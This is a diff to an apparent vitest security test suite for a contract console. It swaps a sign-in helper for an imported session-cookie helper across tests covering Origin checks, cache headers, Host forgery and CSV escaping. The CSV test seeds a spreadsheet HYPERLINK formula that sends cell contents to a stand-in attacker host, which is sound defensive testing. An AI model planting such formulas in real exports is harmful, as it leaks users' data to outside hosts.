@@ -10,6 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { DEMO_PASSWORD } from "../../db/demo/seed";
 import { launchBrowser, loginAs } from "./support/browser";
 import { countRows, startConsole, type ConsoleServer } from "./support/server";
+import { sessionCookie } from "./support/session";
 
 let server: ConsoleServer;
 let browser: Browser;
@@ -33,17 +34,6 @@ function write(sql: string, ...params: unknown[]): void {
   } finally {
     db.close();
   }
-}
-
-async function signIn(baseUrl: string, email = "admin@demo.example"): Promise<string> {
-  const response = await fetch(`${baseUrl}/login`, {
-    method: "POST",
-    redirect: "manual",
-    headers: { Origin: baseUrl, "Content-Type": "application/x-www-form-urlencoded" },
-    body: new URLSearchParams({ email, password: DEMO_PASSWORD }),
-  });
-  expect(response.status).toBe(302);
-  return response.headers.get("set-cookie")!.split(";")[0];
 }
 
 interface RawResponse {
@@ -189,7 +179,7 @@ describe("text limits of the forms (item 1)", () => {
       audit: count("audit_log"),
     };
 
-    const customer = await signIn(server.url, "customer@demo.example");
+    const customer = await sessionCookie(server.url, "customer@demo.example");
     const change = await fetch(`${server.url}/contracts/${contractId}/changes`, {
       method: "POST",
       redirect: "manual",
@@ -207,7 +197,7 @@ describe("text limits of the forms (item 1)", () => {
     expect(change.status).toBe(400);
     expect(await change.text()).toContain("名義は200文字以内で入力してください");
 
-    const operator = await signIn(server.url, "operator@demo.example");
+    const operator = await sessionCookie(server.url, "operator@demo.example");
     const suspend = await fetch(`${server.url}/contracts/${contractId}/admin`, {
       method: "POST",
       redirect: "manual",
@@ -256,7 +246,7 @@ describe("redirect after login (item 3)", () => {
 
 describe("origin of POSTs (item 5)", () => {
   it("refuses a signed-in POST that names no origin, and one from another site", async () => {
-    const cookie = await signIn(server.url);
+    const cookie = await sessionCookie(server.url);
     const before = count("audit_log");
     const bare = await fetch(`${server.url}/logout`, {
       method: "POST",
@@ -347,7 +337,7 @@ describe("headers (item 6)", () => {
   });
 
   it("keeps signed-in data out of caches", async () => {
-    const cookie = await signIn(server.url);
+    const cookie = await sessionCookie(server.url);
     for (const path of ["/home", "/contracts.data", "/portfolio/csv"]) {
       const response = await fetch(`${server.url}${path}`, { headers: { Cookie: cookie } });
       expect(response.status, path).toBe(200);
@@ -360,7 +350,7 @@ describe("CSV formulas (item 4)", () => {
   it("writes a customer name that is a formula as text in the portfolio CSV", async () => {
     const name = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
     write("update customers set name = ? where ref = 'C1'", name);
-    const cookie = await signIn(server.url);
+    const cookie = await sessionCookie(server.url);
     const response = await fetch(`${server.url}/portfolio/csv`, { headers: { Cookie: cookie } });
     expect(response.status).toBe(200);
     const csv = await response.text();
@@ -400,7 +390,7 @@ describe("download names (item 8)", () => {
     );
     db.close();
     try {
-      const cookie = await signIn(server.url);
+      const cookie = await sessionCookie(server.url);
       const response = await fetch(`${server.url}/reports/${reportId}/pdf`, {
         headers: { Cookie: cookie },
       });
@@ -416,7 +406,7 @@ describe("download names (item 8)", () => {
 
 describe("links in mails (item 7)", () => {
   it("builds the invitation link from the configured address, not from a forged Host", async () => {
-    const cookie = await signIn(server.url);
+    const cookie = await sessionCookie(server.url);
     const db = new SQLite(server.databasePath, { readonly: true });
     const customerId = (
       db.prepare("select id from customers where ref = 'C1'").get() as { id: number }
